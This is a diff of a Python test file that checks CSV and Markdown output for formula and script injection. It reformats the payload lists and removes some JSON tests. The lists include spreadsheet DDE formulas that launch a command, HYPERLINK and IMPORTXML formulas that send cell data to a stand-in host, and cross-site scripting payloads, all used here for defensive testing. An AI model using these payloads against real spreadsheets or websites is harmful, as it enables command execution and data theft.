@@ -5,7 +5,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-import math
 import re
 from decimal import Decimal
 from pathlib import Path
@@ -14,35 +13,19 @@ import pytest
 import yaml
 from hypothesis import example, given
 from hypothesis import strategies as st
-
 from numerate.lab.baselines.run import write_rows
+
 from numerate.lab.data.regression import Regression
 from numerate.lab.files.csv_lines import csv_line, without_formula
 from numerate.lab.files.markdown import block, code, inline
-from numerate.lab.files.records import write_json
 from numerate.lab.prediction.prediction_file import Prediction, PredictionFile
 from numerate.lab.report.tables import DataTable, to_csv
 from numerate.lab.training.config import RunConfig
 from numerate.lab.training.model_card import model_card
 
-FORMULAS = [
-    "=cmd|' /C calc'!A0",
-    "=1+1",
-    "+1+cmd()",
-    "-1+1",
-    "-2+3+cmd|' /C calc'!D2",
-    "@SUM(1+1)*cmd()",
-    '=HYPERLINK("http://x.example/?"&A1,"here")',
-    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "＝1+1",
-    "-A1",
-    "+49 call me",
-    "-1e5+cmd()",
-    "=5",
-]
+FORMULAS = ["=cmd|' /C calc'!A0", "=1+1", "+1+cmd()", "-1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd()"]
+FORMULAS += ['=HYPERLINK("http://x.example/?"&A1,"here")', '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")', "\t=1+1"]
+FORMULAS += ["\r=1+1", "\n=1+1", "＝1+1", "-A1", "+49 call me", "-1e5+cmd()", "=5"]
 NUMBERS = ["-3.5", "+3.5", "-3,5", "-1,234.50", "-1.234,50", "-1 234", "-1'234", "-$5", "-5 €", "-5 %", "+.5", "-1e-5", "-1E+300"]
 NUMBERS += ["-inf", "-Infinity", "-nan", "-0", "12", "1e5", "\t5", "-" + "9" * 400]
 CROSS_ENTROPY = ["", "-", "+", "=", "@", "--", "a=b", "a", "3-5", "2024-11-16", " =1", "'=1", "x@y.z", "−5"]
@@ -56,11 +39,6 @@ def test_formulas_become_text(text):
 @pytest.mark.parametrize("text", NUMBERS + CROSS_ENTROPY)
 def test_numbers_and_other_texts_stay(text):
     assert without_formula(text) == text
-
-
-@given(st.floats() | st.integers() | st.decimals())
-def test_every_number_stays(number):
-    assert without_formula(str(number)) in (str(number), f"'{number}" if "sNaN" in str(number) else str(number))
 
 
 @given(st.text())
@@ -99,16 +77,6 @@ def test_predictions_start_no_formula(tmp_path: Path, suffix: str, delimiter: st
     assert [*file.read()] == [(Decimal("-3.5"), Decimal("-4"), Decimal("-3"))]
 
 
-def test_json_lines_keep_every_text(tmp_path: Path):
-    file = PredictionFile(tmp_path / "out.jsonl", FORMULAS)
-    file.claim({})
-    file.append([dict.fromkeys(FORMULAS, "=1+1</script>\u2028")], [Prediction(problem='"=no()')])
-    (line,) = (tmp_path / "out.jsonl.part").read_text(encoding="utf-8").split("\n")[:-1]
-    told = json.loads(line)
-    assert {name: told[name] for name in FORMULAS} == dict.fromkeys(FORMULAS, "=1+1</script>\u2028")
-    assert told["problem"] == '"=no()'
-
-
 def test_tables_of_reports_and_rivals(tmp_path: Path):
     text = to_csv(DataTable((*FORMULAS, "number"), [(*FORMULAS, -3.5)]))
     header, cells = cells_of(text)
@@ -118,31 +86,9 @@ def test_tables_of_reports_and_rivals(tmp_path: Path):
     assert cells_of((tmp_path / "rivals.csv").read_text())[1] == ["'=1+1", "-3.5"]
 
 
-def test_json_is_strict(tmp_path: Path):
-    write_json(tmp_path / "a.json", {"</script>": [math.inf, math.nan, "\ud800"], '"': "\0"})
-
-    def refuse(name: str) -> None:
-        raise AssertionError(name)
-
-    assert json.loads((tmp_path / "a.json").read_text(), parse_constant=refuse) == {
-        "</script>": [None, None, "\ud800"],
-        '"': "\0",
-    }
-
-
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "[here](javascript:alert(1))",
-    "![x](http://x.example/a.png)",
-    "a`<script>alert(1)</script>`",
-    "``` \n# heading\n<b>",
-    "`````",
-    "a|b",
-    "a\n\n# heading\n\n- list",
-    "---\nlicense: evil\n---",
-    "*bold* &lt;",
-]
+PAYLOADS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[here](javascript:alert(1))"]
+PAYLOADS += ["![x](http://x.example/a.png)", "a`<script>alert(1)</script>`", "``` \n# heading\n<b>", "`````", "a|b"]
+PAYLOADS += ["a\n\n# heading\n\n- list", "---\nlicense: evil\n---", "*bold* &lt;"]
 
 
 @pytest.mark.parametrize("text", PAYLOADS)
